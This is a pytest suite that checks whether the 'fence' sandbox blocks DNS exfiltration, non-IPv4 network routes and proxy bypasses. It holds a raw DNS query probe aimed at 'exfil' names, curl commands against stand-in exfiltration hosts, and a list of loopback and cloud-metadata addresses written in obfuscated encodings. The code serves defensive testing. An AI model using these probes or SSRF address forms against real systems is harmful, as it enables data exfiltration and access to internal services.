# SPDX-License-Identifier: MIT
"""Escape classes 8, 9 and 12 of spec/anchors.md §5, attacked from inside a real sandbox, each
with a control run showing that the attack works where fence does not stand in the way.

 8  DNS exfiltration: no resolver is reachable from inside (the host's nameservers, a local
    DNS server, UDP 53 anywhere), names do not resolve, and the proxies never send a denied
    name to DNS.
 9  Other address families and routes: no UDP, IPv6, raw, packet or vsock route out; IPv6
    literals get the same treatment as IPv4 at the proxy.
12  Proxy allowlist bypass: the proxy refuses loopback and metadata destinations in every
    spelling and through DNS rebinding unless the policy names them exactly, and the
    relaxed-mode proxies on host loopback refuse other local users.
"""
import json
import os
import socket
import subprocess
import sys
from pathlib import Path

import pytest

sys.path.insert(0, str(Path(__file__).parent))
from conftest import FENCE_BIN, IS_ROOT, Identity, have, require  # noqa: E402
from netsandbox import FakeDNS, fence_net, origin, write_policy  # noqa: E402
from proxyutil import Proxyd  # noqa: E402


@pytest.fixture(scope="module")
def dns():
    with FakeDNS() as d:
        yield d


# --- class 8 ------------------------------------------------------------------------------

DNS_PROBE = r"""
import json, socket, sys
def query(name):
    q = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00"
    for label in name.split("."):
        q += bytes([len(label)]) + label.encode()
    return q + b"\x00\x00\x01\x00\x01"
def ask(server, port, name):
    fam = socket.AF_INET6 if ":" in server else socket.AF_INET
    s = socket.socket(fam, socket.SOCK_DGRAM)
    s.settimeout(1.5)
    try:
        s.connect((server, port))  # connected: an ICMP "port unreachable" ends the wait
        s.send(query(name))
        data = s.recv(512)
        return "answered" if data[:2] == b"\x12\x34" else "garbage"
    except OSError as e:
        return type(e).__name__ + ":" + str(e.errno)
servers = [l.split()[1] for l in open("/etc/resolv.conf") if l.startswith("nameserver")]
out = {"fake": ask("127.0.0.1", int(sys.argv[1]), "secret.exfil.test")}
if sys.argv[3:] != ["control"]:  # the host has no route to these: they would only time out
    out["resolv"] = {s: ask(s, 53, "secret.exfil.test") for s in servers}
    out["public"] = ask("192.0.2.53", 53, "secret.exfil.test")
try:
    socket.getaddrinfo(sys.argv[2], 80)
    out["getaddrinfo"] = "resolved"
except socket.gaierror as e:
    out["getaddrinfo"] = "failed"
print(json.dumps(out))
"""


def test_class8_no_resolver_reachable(env, dns):
    probe = env.write("dnsprobe.py", DNS_PROBE)
    # control: outside, a DNS server on the host answers the query (and "origin.test" would
    # resolve through it had the host's resolver used it: the channel exists)
    host = json.loads(env.run(["python3", str(probe), str(dns.port), "localhost",
                               "control"]).stdout)
    assert host["fake"] == "answered"
    assert host["getaddrinfo"] == "resolved"
    before = len(dns.queries)
    p = fence_net(env, dns, write_policy(env, {"allowedDomains": ["origin.test"]}),
                  f"python3 {probe} {dns.port} exfil-{os.getpid()}.origin.test")
    inside = json.loads(p.stdout)
    assert inside["fake"] != "answered", inside
    assert all(v != "answered" for v in inside["resolv"].values()), inside
    assert inside["public"] != "answered"
    assert inside["getaddrinfo"] == "failed"
    # nothing from inside reached the host's DNS server
    assert not [q for q in dns.queries[before:] if "exfil" in q], dns.queries[before:]


def test_class8_denied_names_never_reach_dns(env, dns):
    """Through the proxies, the rule is decided on the name before anything is resolved (for
    SOCKS5 too, unlike the Go tool): a denied or unlisted name is never sent to DNS, so it
    cannot carry data out. Control: an allowed name is resolved."""
    with origin() as o:
        pol = write_policy(env, {"allowedDomains": ["origin.test"]})
        before = len(dns.queries)
        p = fence_net(env, dns, pol,
                      "curl -s --max-time 10 http://secret1.exfil.test/ >/dev/null; "
                      "curl -s --max-time 10 --socks5-hostname 127.0.0.1:1080 http://secret2.exfil.test/; "
                      "curl -s --max-time 10 https://secret3.exfil.test/; "
                      f"curl -s --max-time 10 http://origin.test:{o.server_port}/hello")
    assert p.stdout == "hello from origin\n", p.stderr
    asked = dns.queries[before:]
    assert "origin.test" in asked
    assert not [q for q in asked if "exfil" in q], asked


# --- class 9 ------------------------------------------------------------------------------

ROUTE_PROBE = r"""
import errno, json, socket, sys
def err(e):
    return errno.errorcode.get(e.errno, str(e.errno))
def udp(fam, addr):
    s = socket.socket(fam, socket.SOCK_DGRAM)
    s.settimeout(1.5)
    try:
        s.connect(addr)
        s.send(b"x")
        s.recv(16)
        return "answered"
    except socket.timeout:
        return "silence"
    except OSError as e:
        return err(e)
def tcp(fam, addr):
    s = socket.socket(fam, socket.SOCK_STREAM)
    s.settimeout(3)
    try:
        s.connect(addr)
        return "connected"
    except OSError as e:
        return err(e)
def make(*args):
    try:
        socket.socket(*args).close()
        return "created"
    except OSError as e:
        return err(e)
port = int(sys.argv[1])
out = {}
if sys.argv[3:] != ["control"]:  # the host has no route to these: they would only time out
    out["udp_public"] = udp(socket.AF_INET, ("192.0.2.1", 53))
    out["udp6_public"] = udp(socket.AF_INET6, ("2001:db8::1", 53))
    out["tcp6_public"] = tcp(socket.AF_INET6, ("2001:db8::1", 443))
print(json.dumps(dict(out, **{
    "udp_local": udp(socket.AF_INET, ("127.0.0.1", port)),
    "tcp6_local": tcp(socket.AF_INET6, ("::1", int(sys.argv[2]))),
    "raw": make(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP),
    "raw6": make(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6),
    "packet": make(socket.AF_PACKET, socket.SOCK_RAW, 0),
    "vsock": make(socket.AF_VSOCK, socket.SOCK_STREAM, 0),
})))
"""


def test_class9_no_other_route_out(env):
    echo = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)  # a UDP service on the host
    echo.bind(("127.0.0.1", 0))
    port = echo.getsockname()[1]

    def serve():
        try:
            data, peer = echo.recvfrom(64)
            echo.sendto(data, peer)
        except OSError:
            pass

    import threading
    threading.Thread(target=serve, daemon=True).start()
    with origin(host="::1") as o6:
        probe = env.write("routes.py", ROUTE_PROBE)
        host = json.loads(env.run(["python3", str(probe), str(port), str(o6.server_port),
                                   "control"]).stdout)
        # control: UDP and IPv6 reach the host's services; vsock can be created (this VM has a
        # vsock transport); as root raw and packet sockets can be made too
        assert host["udp_local"] == "answered" and host["tcp6_local"] == "connected", host
        assert host["vsock"] == "created", host
        if env.ident.is_root:
            assert host["raw"] == host["raw6"] == host["packet"] == "created", host
        p = env.fence("-c", f"python3 {probe} {port} {o6.server_port}")
    echo.close()
    inside = json.loads(p.stdout)
    assert inside["udp_local"] in ("ECONNREFUSED", "silence"), inside  # its own empty loopback
    assert inside["udp_public"] == "ENETUNREACH"
    assert inside["udp6_public"] == "ENETUNREACH"
    assert inside["tcp6_public"] in ("ENETUNREACH", "EACCES")  # EACCES: Landlock TCP rules
    assert inside["tcp6_local"] in ("ECONNREFUSED", "EACCES")
    # capabilities dropped: no raw sockets even for root; seccomp refuses packet and vsock
    assert inside["raw"] == inside["raw6"] == "EPERM", inside
    assert inside["packet"] == "EAFNOSUPPORT" and inside["vsock"] == "EAFNOSUPPORT", inside


# --- class 12 -----------------------------------------------------------------------------

INTERNAL = ["127.0.0.1", "127.1", "2130706433", "0x7f.1", "0177.0.0.1", "0.0.0.0",
            "[::1]", "[::ffff:127.0.0.1]", "[::ffff:7f00:1]", "169.254.169.254",
            "[::ffff:169.254.169.254]", "2852039166", "rebind.test", "meta.test", "mixed.test"]


def test_class12_proxy_refuses_internal_destinations(env, dns):
    """Relaxed mode (allowedDomains ["*"]) makes every destination pass the domain rule, so
    what stops these is the SSRF/rebinding guard alone."""
    require(have("curl"), "curl not installed")
    with origin() as o:
        port = o.server_port
        cmds = []
        for h in INTERNAL:
            url = f"http://{h}:{port}/hello"
            # one line per destination, the destinations in parallel
            cmds.append(f"(echo {h} $(curl -s --max-time 10 --noproxy '' -o /dev/null "
                        f"-w '%{{http_code}}' -x $HTTP_PROXY {url}) "
                        f"$(curl -s --max-time 10 --noproxy '' -o /dev/null -p -x $HTTP_PROXY "
                        f"{url}; echo $?) "
                        f"$(curl -s --max-time 10 --noproxy '' -o /dev/null "
                        f"--socks5-hostname ${{ALL_PROXY#*//}} {url}; echo $?)) &")
        # control: the service the attacks aim at is there (direct access from the relaxed
        # sandbox, which shares the host's loopback), and the proxy reaches it when the policy
        # names it exactly, so the refusals below are the guard's
        cmds.append(f"echo direct $(curl -s --max-time 10 --noproxy '*' "
                    f"http://127.0.0.1:{port}/hello); wait")
        pol = write_policy(env, {"allowedDomains": ["*"]})
        p = fence_net(env, dns, pol, " ".join(cmds))
        named = write_policy(env, {"allowedDomains": ["*", "127.0.0.1", "rebind.test"]},
                             name="named.json")
        ok = fence_net(env, dns, named,
                       f"curl -s --max-time 10 -x $HTTP_PROXY http://127.1:{port}/hello; "
                       f"curl -s --max-time 10 -x $HTTP_PROXY http://rebind.test:{port}/hello")
    assert ok.stdout == "hello from origin\n" * 2, ok.stderr
    got = {line.split()[0]: line.split()[1:] for line in p.stdout.splitlines()}
    assert got.pop("direct") == ["hello", "from", "origin"], p.stdout
    for h in INTERNAL:
        # absolute-form 403; CONNECT refused (curl 56 with the 403); SOCKS5 reply 0x02 (97)
        assert got[h] == ["403", "56", "97"], (h, got[h], p.stderr)


def other_uid(ident):
    return 65533 if ident.uid == 65534 else 65534


def test_class12_relaxed_proxy_refuses_other_users(env, dns, tmp_path):
    """In relaxed mode the proxies listen on host loopback, where any local user can connect.
    fence serves only connections whose peer socket belongs to its own uid."""
    require(IS_ROOT and have("setpriv") and have("curl"),
            "needs root (to act as another user) and curl")
    attacker = Identity("attacker", other_uid(env.ident), other_uid(env.ident))
    with origin() as o:
        url = f"http://origin.test:{o.server_port}/hello"
        # control: an unprotected loopback proxy (the phase-1 driver, no peer check) serves
        # anybody: the attack works there
        with Proxyd("--allow", "origin.test", "--dns", dns.servers) as plain:
            r = subprocess.run(attacker.wrap(["curl", "-sS", "--max-time", "10", "-x",
                                              plain.url, url]),
                               capture_output=True, text=True, timeout=30)
            assert r.stdout == "hello from origin\n", r.stderr
        pol = write_policy(env, {"allowedDomains": ["*", "origin.test"]})
        argv = env.ident.wrap([FENCE_BIN, "-m", "-s", str(pol), "-c",
                               "echo $HTTP_PROXY ${ALL_PROXY#*//}; read go; "
                               f"curl -sS --max-time 10 {url}"])
        proc = subprocess.Popen(argv, cwd=env.work, env=env.environ({"FENCE_DNS_SERVERS":
                                                                     dns.servers}),
                                stdin=subprocess.PIPE, stdout=subprocess.PIPE,
                                stderr=subprocess.PIPE, text=True)
        try:
            http, socks = proc.stdout.readline().split()
            r1 = subprocess.run(attacker.wrap(["curl", "-sS", "--max-time", "10", "-x", http,
                                               url]), capture_output=True, text=True, timeout=30)
            r2 = subprocess.run(attacker.wrap(["curl", "-sS", "--max-time", "10",
                                               "--socks5-hostname", socks, url]),
                                capture_output=True, text=True, timeout=30)
            proc.stdin.write("go\n")
            proc.stdin.flush()
            out, err = proc.communicate(timeout=30)
        finally:
            if proc.poll() is None:
                proc.kill()
    # the attacker's connections are closed before anything is read (HTTP: empty reply or
    # reset; SOCKS5: no greeting back); the sandbox's own request works
    assert r1.returncode in (52, 56) and r1.stdout == "", r1.stderr
    assert r2.returncode != 0 and "hello" not in r2.stdout, r2.stderr
    assert out == "hello from origin\n", err
    assert f"[fence] proxy refused a connection from uid {attacker.uid}: only uid " \
           f"{env.ident.uid} may use this run's proxies" in err
